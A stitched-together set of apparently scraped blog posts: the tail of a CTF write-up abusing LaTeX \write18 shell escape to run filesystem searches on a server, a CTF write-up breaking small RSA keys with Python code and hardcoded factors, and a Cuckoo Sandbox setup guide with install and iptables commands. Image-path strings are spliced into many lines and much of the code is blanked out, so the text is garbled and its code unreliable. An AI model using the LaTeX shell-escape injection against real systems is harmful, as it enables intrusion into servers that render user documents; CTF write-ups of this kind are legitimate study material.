\immediate\write18{find / -name "*flag*" >hihi}
  \advance\linecnt by \@ne
  \readline\myread to \line

Please excuse the shitty LaTeX that probably makes no sense, but this seemed to work mostly.

This returned nothing. Okay, perhaps the flag is stored in a random file. Let's change our system command to search every file for the string 'IW' (the flag format), ls -R / | grep 'IW', and see what we get.
This returns a giant PDF with a bunch of junk. Doing a search using a PDF editor for "flag" reveals:

matchesfl/var/www/$FLAG = ”IW–L4T3x

Weirdly formatted, but with some knowledge of other flags, I'm able to guess the actual flag is meant to be IW{L4T3x_IS_Tur1ng_c0mpl3te}.

Oh Bob!

(crypto60, solved by 167)

Alice wants to send Bob a confidential message. They both remember the crypto lecture about RSA. So Bob uses openssl to create key pairs. Finally, Alice encrypts the messagewith Bob's public keys and sends it to Bob. Clever Eve was able to intercept it. Can you help Eve to decrypt the message?

After unzipping the challenge, we're presented with four files, three public keys, and one file with three encrypted strings.

-----END PUBLIC KEY-----
cat secret.enc



The description tells us, that we have to decrypt the secret encoded messages. This is public-key cryptography, but all we have are the public keys. To decrypt the messages, we need the private keys.

Luckily, judging by the size of the base64 encoded public keys, the keys are very small. RSA is only secure when a large enough key is used at a minimum 1024-bits, and 2048-bits or more is recommended.

I've never done this before, so my thought was to first figure out what type of key this is, and then figure outhow to extract the components of the key (asymmetric keys are not typically simple byte arrays, but instead several numbers concatenated together), and then see where to go from there. This lead me no where. Finding the right openssl commands to use on the key was proving impossible. Every command I found online to simply figure out the type of public key (we don't know if it's RSA, DSA, or something else) inside the given files was giving an error. Eventually I stumbled upon something that finally worked:

openssl asn1parse -dump -i -in
    0:d=0  hl=2 l=  56 cons: SEQUENCE
    2:d=1  hl=2 l=  13 cons:  SEQUENCE
    4:d=2  hl=2 l=   9 prim:   OBJECT            :rsaEncryption
   15:d=2  hl=2 l=   0 prim:   NULL
   17:d=1  hl=2 l=  39 prim:  BIT STRING

Okay, at this point atleast I know it's an RSA key finally. I sort of can guess from the output of this that the parts of the key take up 39 bytes. I know that in RSA the "key size" is actually just the modulus in the RSA equation, so the key is ~256 bits - bruteforceable.

Through some luck I stumbled upon, Following his guide I'm able import a public key, and obtain the key's modulus and exponent (the 2 numbers stored in an RSA public key). The modulus can be factored into p*q, through bruteforce, since the modulus is so small - this is a significantly harder bruteforce when the modulus is 4096 bits. Using those factors, we then obtain the final piece of an RSA private key, the privateexponent (a RSA private key is p,q,d, whereas a public key is n,e). Pycrypto has a great construct function that allows to easily recreate the corresponding private key. Applying this approach to each of Bob's public keys we can decrypt each message in secret.enc.

Some additional finagling has to be done to apply each recovered private key to each part of the secret.enc file. For that I just used simple copy pasting into 3 separate files. Padding is also typically used in crypto, and we have to account for that. And finally, the authors either messed up or intentionally (or maybe I messed something up?) ordered the messages in secret.enc as corresponding to,, in that order.

from Crypto.PublicKey import RSA
from Crypto.Cipher import PKCS1_v1_5
import gmpy
import base64
from Crypto import Random
from Crypto.Hash import SHAbob1 = """-----BEGIN PUBLIC KEY-----
-----END PUBLIC KEY-----"""
bob2 = """-----BEGIN PUBLIC KEY-----
-----END PUBLIC KEY-----"""
bob3 = """-----BEGIN PUBLIC KEY-----
-----END PUBLIC KEY-----"""

pub1 = RSA.importKey(bob1)
pub2 = RSA.importKey(bob2)
pub3 = RSA.importKey(bob3)

n1 = long(pub1.n)
e1 = long(pub1.e)
n2 = long(pub2.n)
e2 = long(pub2.e)
n3 = long(pub3.n)
e3 = long(pub3.e)

# Obtained using msieve. Should probably fully pythonize this by using pysieve.
p1 = 17963604736595708916714953362445519
q1 = 20016431322579245244930631426505729
p2 = 16514150337068782027309734859141427
q2 = 16549930833331357120312254608496323
p3 = 17357677172158834256725194757225793
q3 = 19193025210159847056853811703017693

d1 = long(gmpy.invert(e1,(p1-1)*(q1-1)))
d2 = long(gmpy.invert(e2,(p2-1)*(q2-1)))
d3 = long(gmpy.invert(e3,(p3-1)*(q3-1)))

key1 = RSA.construct((n1,e1,d1))
key2 = RSA.construct((n2,e2,d2))
key3 = RSA.construct((n3,e3,d3))

with open('secret1.bin','r') as f1:
    enc1 =
with open('secret3.bin','r') as f2:enc2 =
with open('secret2.bin','r') as f3:
    enc3 =

dsize = SHA.digest_size
sentinel =

cipher =
secret = cipher.decrypt(enc1, sentinel)
print("--- secret 1 ---")cipher =
secret = cipher.decrypt(enc2, sentinel)
print("--- secret 2 ---")

cipher =
secret = cipher.decrypt(enc3, sentinel)
print("--- secret 3 ---")

Installing and setting up Cuckoo Sandbox

Been busy last two weeks completing a research paper. Hopefully the code I made for the paper can be released soon. For now, here's some snippets I used to set up part of the environment for the research. (Intentionally vague, as it's not published yet)

This is a quick guide for how to install Cuckoo Sandbox to work with Virtualbox VMs.

Install dependencies for Cuckoo

sudo apt-get install python
sudo apt-get install mongodb
sudo apt-get install g++
sudo apt-get install python-dev python-dpkt python-jinja2 python-magic python-pymongo
python-gridfs python-libvirt python-bottle python-pefile python-chardet python-pip
sudo apt-get install libxml2-dev libxslt1-dev
sudo pip2 install sqlalchemy yara
sudo pip2 install cybox==
sudo pip2 install maec==
sudo pip2 install python-dateutilsudo apt-get install python-dev libfuzzy-dev
sudo pip2 install pydeep

sudo apt-get install tcpdump # If not installed
# Allow tcpdump to read raw TCP data without root:
sudo setcap cap_net_raw,cap_net_admin=eip /usr/sbin/tcpdump

wget && unzip && cd volatility-2.4
sudo python install
# Install the libraries that volatility wants:
sudo pip2 install distorm3

Install Cuckoo and Virtual Box

You'll still have to set up the virtual machine, and configure Cuckoo to use that VM. But at least this script will download them for you!

Checkout Cuckoo's full documentation here:

git clone git://
sudo dpkg -ivirtualbox-5.0_5.0.14-105127~Ubuntu~trusty_i386.deb
sudo apt-get install -f

Cuckoo has really good flexibility to be expanded for your needs. It's entirely open source, and the code base isn't too bad. However, they make it even easier for you with somedecent documentation. I blogged about the structure of Cuckoo and how to add custom features to it before, so check it out.


If you follow the Cuckoo documentation then you'll want to set up a host-only network adapter between your guestvirtual machine and your host machine. After you do that through the Virtualbox settings, you have to set up the iptables rules for the communication to work.

sudo iptables -A FORWARD -o eth0 -i vboxnet0 -s -m conntrack --ctstate NEW -j ACCEPT;
sudo iptables -A FORWARD -m conntrack --ctstate ESTABLISHED,RELATED -j ACCEPT;
sudo iptables -APOSTROUTING -t nat -j MASQUERADE;
sudo sysctl -wnet.ipv4.ip_forward=1;